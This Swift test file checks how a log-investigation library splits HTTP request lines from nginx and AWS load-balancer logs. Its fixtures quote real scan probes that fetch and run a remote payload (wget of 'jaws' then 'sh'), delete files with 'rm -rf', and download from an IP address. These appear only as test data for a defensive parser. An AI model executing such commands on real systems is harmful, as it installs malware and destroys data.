import Foundation
import Testing
@testable import InvestigateKit

/// A request line is read whole: the method from its start, the protocol from its end, the target
/// in between with its spaces (attack probes send them; ALB and nginx log them as received).
@Suite struct RequestLineTests {
    func split(_ request: String) -> Event {
        var e = Event(time: 0, layer: .nginx, kind: .access, line: 1, raw: [])
        Line.with(request, number: 1) { splitRequest($0.bytes, into: &e) }
        return e
    }

    @Test func targetKeepsItsSpaces() {
        let e = split("GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1")
        #expect(e.method == "GET" && e.host == "127.0.0.1" && e.path == "/shell")
        #expect(e.query == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
        #expect(e.extra["protocol"] == "HTTP/1.1" && e.extra["request"] == nil)
        let spaced = split("GET /a b/c d?x=1 2 HTTP/2.0")
        #expect(spaced.path == "/a b/c d" && spaced.query == "x=1 2" && spaced.extra["protocol"] == "HTTP/2.0")
    }

    @Test func protocolOnlyAtTheEnd() {
        // No protocol (HTTP/0.9, or a request line cut short): the rest is the target.
        let none = split("GET /only-path")
        #expect(none.path == "/only-path" && none.extra["protocol"] == nil)
        let words = split("GET /a HTTP/1.1 trailing")
        #expect(words.path == "/a HTTP/1.1 trailing" && words.extra["protocol"] == nil)
        // `-` where the protocol stands is no protocol.
        let dash = split("GET /x -")
        #expect(dash.path == "/x" && dash.extra["protocol"] == nil)
        for proto in ["HTTP/1.0", "HTTP/2", "HTTP/3"] { #expect(split("GET / \(proto)").extra["protocol"] == proto) }
        #expect(split("GET / HTTP/1.").path == "/ HTTP/1.")
    }

    @Test func malformedLinesAreKeptWhole() {
        for text in ["- - - ", "-", "HELP", "batman", "GET  /two-spaces-first HTTP/1.1", "GET / ", "get / HTTP/1.1", #"\x16\x03\x01"#] {
            let e = split(text)
            #expect(e.method == nil && e.path == nil, "\(text)")
            if text != "-" { #expect(e.extra["request"] == text) }
        }
    }

    /// The real scan in elastic/integrations' ALB test log (classification `SpaceInUri`).
    @Test func albRequestWithSpaces() throws {
        let line = #"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#
        let sink = try parse(AWSALBImporter(), [line])
        let e = try #require(sink.events.first)
        #expect(e.method == "GET" && e.path == "/shell" && e.host == "127.0.0.1")
        #expect(e.query == "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" && e.extra["protocol"] == "HTTP/1.1")
        #expect(e.extra["classification_reason"] == "SpaceInUri" && e.clientIP == "67.43.156.20")
        let classic = try parse(AWSClassicELBImporter(), [
            #"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 404 404 0 29 "GET http://www.example.com:80/a b?c d HTTP/1.1" "curl/7.38.0" - -"#,
        ])
        #expect(classic.events.first?.path == "/a b" && classic.events.first?.query == "c d" && classic.events.first?.extra["protocol"] == "HTTP/1.1")
    }

    /// nginx logs `$request` as received: both of its readers, its log_format reader and its error
    /// log read the target whole.
    @Test func nginxRequestWithSpaces() throws {
        let line = #"203.0.113.5 - - [06/Feb/2025:14:32:45 +0900] "GET /cgi-bin/x?cmd=cd /tmp; wget http://198.51.100.9/a HTTP/1.1" 400 150 "-" "-""#
        let fast = NginxFastPathTests.read([Array(line.utf8)], commonShape: true)
        let general = NginxFastPathTests.read([Array(line.utf8)], commonShape: false)
        #expect(fast.fast == 1 && fast.events == general.events)
        let e = try #require(general.events.first)
        #expect(e.path == "/cgi-bin/x" && e.query == "cmd=cd /tmp; wget http://198.51.100.9/a" && e.extra["protocol"] == "HTTP/1.1")
        let formatted = try parse(NginxAccessImporter(), [line],
                                  options: ImportOptions(nginxLogFormat: #"$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent""#))
        #expect(formatted.events.first?.query == e.query)
        let error = try parse(NginxErrorImporter(), [
            #"2015/01/21 10:56:10 [error] 2833#0: *16336 open() "/var/www/x" failed (2: No such file or directory), client: 5.7.9.2, server: localhost, request: "GET /a b HTTP/1.1", host: "1.2.3.4""#,
        ], options: ImportOptions(timeZone: .utc))
        #expect(error.events.first?.path == "/a b" && error.events.first?.extra["protocol"] == "HTTP/1.1")
    }

    @Test(.enabled(if: Corpus.available && Corpus.exists("elastic-integrations/test-alb.log")))
    func corpusALBScanKeepsItsURL() throws {
        let text = try String(contentsOfFile: Corpus.path("elastic-integrations/test-alb.log"), encoding: .utf8)
        let sink = try parse(AWSALBImporter(), text.split(separator: "\n").map(String.init))
        let scan = try #require(sink.events.first { $0.path == "/shell" })
        #expect(scan.query?.contains("wget+ a.tigoinari.tk/jaws") == true && scan.extra["protocol"] == "HTTP/1.1")
        // No request's protocol holds anything but a protocol.
        #expect(sink.events.allSatisfy { $0.extra["protocol"].map { $0.hasPrefix("HTTP/") && !$0.contains(" ") } ?? true })
    }
}
